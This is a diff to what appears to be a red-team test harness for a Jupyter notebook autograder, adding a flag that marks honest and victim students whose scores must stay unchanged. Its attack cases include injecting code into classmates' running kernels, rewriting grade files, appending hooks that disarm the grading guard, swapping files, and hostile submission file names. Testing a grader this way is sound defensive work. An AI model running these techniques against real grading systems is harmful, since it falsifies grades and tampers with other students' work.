@@ -64,6 +64,7 @@ class Submission:
     assignment: str
     notebook: object = None  # a notebook, raw text, or None with link set
     honest: float = 0.0  # what the submission earns without any trick
+    kept: bool = False  # an honest student or a victim: must get exactly `honest`
     link: Path | None = None  # a symbolic link to this path instead of a file
     file_name: str | None = None  # SUBMISSIONS/<file_name> instead of STUDENT/NAME.ipynb
 
@@ -157,7 +158,8 @@ def _spawn(argv, capture=False):
 def attempt(body: str) -> str:
     """Attack code that reports, rather than raises, when it is stopped."""
     indented = "\n".join("    " + line for line in body.strip().splitlines())
-    return f"{SPAWN}\ntry:\n{indented}\nexcept BaseException as _e:\n    print('attack stopped:', repr(_e)[:300])\n"
+    stopped = "except BaseException as _e:\n    print('attack stopped:', repr(_e)[:300])\n"
+    return f"{SPAWN}\ntry:\n{indented}\n{stopped}"
 
 
 def run_stolen(text_expr: str) -> str:
@@ -335,7 +337,7 @@ def _fake_send(self, payload):
             elif key in _store:
                 result = {"result": _store[key]}
             else:
-                result = {"error": {"code": -32001, "message": "Key not found", "data": {"key": key}}}
+                result = {"error": {"code": -32001, "message": "Key not found"}}
         elif method == "delete":
             if not params or not isinstance(params[0], str):
                 result = {"error": {"code": -32602, "message": "Invalid params"}}
@@ -381,7 +383,8 @@ checks.expect = lambda *args, **kwargs: None
         nb, "q4_answer"
     ).source = "lost_count = zero_returns = counted_but_lost = 0\nloss_fraction = 0.0\n"
     cell(nb, "q5_answer").source = "why = 'b'\nlost_if_away_twice = 0\n"
-    return [Submission("c3-patch-a3", LOSS, nb)]
+    # A blank a3 earns question 1 with the parameters the student copy gives (1 point).
+    return [Submission("c3-patch-a3", LOSS, nb, honest=1)]
 
 
 # --- D: reading what must stay hidden -----------------------------------------------------------
@@ -465,7 +468,7 @@ _fd = os.open("zz-d6-classmate/{CHAT}.ipynb", os.O_RDONLY, dir_fd=_dir)
 """
     return [
         Submission("d6-copy-classmate", CHAT, blank_with(attempt(code))),
-        Submission("zz-d6-classmate", CHAT, solved(CHAT), honest=8),
+        Submission("zz-d6-classmate", CHAT, solved(CHAT), honest=8, kept=True),
     ]
 
 
@@ -484,7 +487,7 @@ def victim_hook(token: str) -> str:
 
 
 def victim(student: str, token: str) -> Submission:
-    return Submission(student, CHAT, first(release(CHAT), f"VICTIM_TOKEN = {token!r}"))
+    return Submission(student, CHAT, first(release(CHAT), f"VICTIM_TOKEN = {token!r}"), kept=True)
 
 
 def inject_neighbour(ctx: Context) -> list[Submission]:
@@ -494,7 +497,8 @@ import glob, tempfile, time
 from ipykernel.connect import get_connection_file
 from jupyter_client import BlockingKernelClient
 from jupyter_core.paths import jupyter_runtime_dir
-_INJECT = "exec(" + repr({victim_hook(token)!r}) + ") if globals().get('VICTIM_TOKEN') == {token!r} else None"
+_HIT = "globals().get('VICTIM_TOKEN') == {token!r}"
+_INJECT = "exec(" + repr({victim_hook(token)!r}) + ") if " + _HIT + " else None"
 _mine = os.path.realpath(get_connection_file())
 _done, _deadline = False, time.monotonic() + 8
 while not _done and time.monotonic() < _deadline:
@@ -507,7 +511,7 @@ while not _done and time.monotonic() < _deadline:
                 _kc.load_connection_file(_file)
                 _kc.start_channels()
                 _kc.execute(
-                    _INJECT, user_expressions={{"hit": "globals().get('VICTIM_TOKEN') == {token!r}"}}
+                    _INJECT, user_expressions={{"hit": _HIT}}
                 )
                 _reply = _kc.get_shell_msg(timeout=3)
                 _kc.stop_channels()
@@ -539,7 +543,8 @@ def late_rewrite(ctx: Context) -> list[Submission]:
         "    except OSError:\n"
         "        continue\n"
         f"    if 'f1-late,{CHAT},TOTAL,0' in t:\n"
-        f"        open(p, 'w').write(t.replace('f1-late,{CHAT},TOTAL,0', 'f1-late,{CHAT},TOTAL,8'))\n"
+        f"        t = t.replace('f1-late,{CHAT},TOTAL,0', 'f1-late,{CHAT},TOTAL,8')\n"
+        "        open(p, 'w').write(t)\n"
         "        break\n"
         f"# {ctx.mark}\n"
     )
@@ -563,17 +568,14 @@ with open(os.path.join(_dir, "00-helper.py"), "w") as _f:
 
 def edit_guard(ctx: Context) -> list[Submission]:
     token = secrets.token_hex(8)
-    addition = (
-        "\n\ndef install(forbidden):\n    pass\n\n"
-        "try:\n    from IPython import get_ipython\n"
-        + "\n".join("    " + line for line in victim_hook(token).splitlines())
-        + "\nexcept Exception:\n    pass\n"
-    )
+    hook = "\n".join("    " + line for line in victim_hook(token).splitlines())
+    addition = f"\ntry:\n    from IPython import get_ipython\n{hook}\nexcept Exception:\n    pass\n"
+    disarm = "\n\ndef install(forbidden):\n    pass\n" + addition
     code = f"""
 with open({str(ctx.pack / "helpers" / "grading_guard.py")!r}, "a") as _f:
-    _f.write({addition!r})
+    _f.write({disarm!r})
 with open({str(ctx.pack / "helpers" / "checks.py")!r}, "a") as _f:
-    _f.write("\\ntry:\\n    from IPython import get_ipython\\n" + {"".join("    " + line + chr(10) for line in victim_hook(token).splitlines())!r} + "except Exception:\\n    pass\\n")
+    _f.write({addition!r})
 """
     return [
         Submission("f3-edit-pack", CHAT, blank_with(attempt(code))),
@@ -591,7 +593,7 @@ os.rename("replacement.ipynb", {str(target)!r})
 """
     return [
         Submission("f4-rename", CHAT, blank_with(attempt(code))),
-        Submission("zz-f4-victim", CHAT, solved(CHAT), honest=8),
+        Submission("zz-f4-victim", CHAT, solved(CHAT), honest=8, kept=True),
     ]
 
 
@@ -634,12 +636,12 @@ def bad_metadata(ctx: Context) -> list[Submission]:
     odd = nbformat.v4.new_code_cell("x = 1")
     odd.metadata["nbgrader"] = {"grade_id": ["q1"], "grade": "yes", "points": "many"}
     nb.cells.insert(3, odd)
-    return [Submission("g5-bad-metadata", CHAT, nb, honest=8)]
+    return [Submission("g5-bad-metadata", CHAT, nb, honest=8, kept=True)]
 
 
 def non_utf8_name(ctx: Context) -> list[Submission]:
     name = os.fsdecode(b"g6-caf\xe9-\xff")
-    return [Submission(name, CHAT, solved(CHAT), honest=8)]
+    return [Submission(name, CHAT, solved(CHAT), honest=8, kept=True)]
 
 
 def huge_errors(ctx: Context) -> list[Submission]:
@@ -691,7 +693,7 @@ FORMULAS = [
 
 def formula_names(ctx: Context) -> list[Submission]:
     found = [Submission(name, CHAT, release(CHAT)) for name in FORMULAS]
-    found[0] = Submission(FORMULAS[0], CHAT, solved(CHAT), honest=8)
+    found[0] = Submission(FORMULAS[0], CHAT, solved(CHAT), honest=8, kept=True)
     found.append(Submission("h1-new\nline", CHAT, solved(CHAT)))
     return found
 
@@ -905,7 +907,7 @@ def leftovers(mark: str) -> list[int]:
     return pids
 
 
-# --- measuring: each attack in a run of its own ----------------------------------------------------
+# --- measuring: each attack in a run of its own ---------------------------------------------
 
 
 def _ours(value: str) -> list[int]:
@@ -1068,7 +1070,8 @@ def main(argv: list[str] | None = None) -> int:
             if on
         ]
         print(
-            f"{attack.key:4} {result['outcome']:28} {result['seconds']:6.1f} s  {got}  {' '.join(flags)}"
+            f"{attack.key:4} {result['outcome']:28} {result['seconds']:6.1f} s  {got}  "
+            + " ".join(flags)
         )
         sys.stdout.flush()
     if args.json:
